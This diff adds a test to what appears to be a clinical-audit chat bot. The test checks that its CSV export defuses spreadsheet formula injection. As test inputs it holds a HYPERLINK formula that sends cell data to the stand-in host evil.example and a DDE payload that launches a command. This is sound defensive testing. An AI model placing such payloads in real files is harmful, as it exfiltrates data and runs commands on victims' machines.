@@ -10,7 +10,7 @@ import pytest
 from sqlalchemy import event
 from sqlmodel import Session, select
 
-from bot.models import AuditThread, OutboxItem
+from bot.models import AuditThread, Grade, OutboxItem
 from bot.models_people import AwayPeriod, TrainerPause
 from bot.services.commands import Usage, no_args
 from handlers.commands import SUBCOMMANDS, Subcommand, add_subcommand
@@ -270,6 +270,37 @@ def test_export_sends_the_windows_grades_as_csv_to_the_managers_dm(team: Running
                           for r in majors)
     assert {r["trainer"] for r in rows} == {TRAINER1}
     assert "Only managers can export" in ask(team, LEAD, "export").text
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Details on the dose error")'
+
+
+def test_export_neutralizes_what_a_spreadsheet_would_run_as_a_formula(bot: RunningBot):
+    records = week_of_records(bot.ctx.clock.now(), count=2)
+    records[0]["id"] = "=cmd|' /C calc'!A0"
+    bot.ingest(records)
+    bot.run_audit()
+    first, second = [r for r in bot.thread_replies(CLINICAL_CHANNEL)
+                     if "Major error" in buttons(r)]
+    bot.driver.click(NURSE, first, "Major error", channel=CLINICAL_CHANNEL)
+    modal = bot.driver.wait_for(lambda: bot.driver.open_modal(NURSE))
+    answer = bot.driver.submit_view(NURSE, modal, {"category": "Unsafe advice",
+                                                   "explanation": FORMULA})
+    assert answer.status == 200
+    bot.driver.click(NURSE, second, "Pass", channel=CLINICAL_CHANNEL)
+
+    def graded() -> bool:
+        with Session(bot.ctx.engine) as session:
+            return len(session.exec(select(Grade)).all()) == 2
+    bot.driver.wait_for(graded)
+    assert "(2 grades," in ask(bot, MANAGER, "export").text
+    [export] = bot.sandbox.files(MANAGER)
+    rows = list(csv.DictReader(io.StringIO(export.data.decode("utf-8"), newline="")))
+    assert sorted(r["explanation"] for r in rows) == ["", f"'{FORMULA}"]
+    assert sorted(r["output_id"] for r in rows) == sorted(
+        ["'=cmd|' /C calc'!A0", records[1]["id"]])
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
 
 
 # --- the 3-second rule ------------------------------------------------------------------------
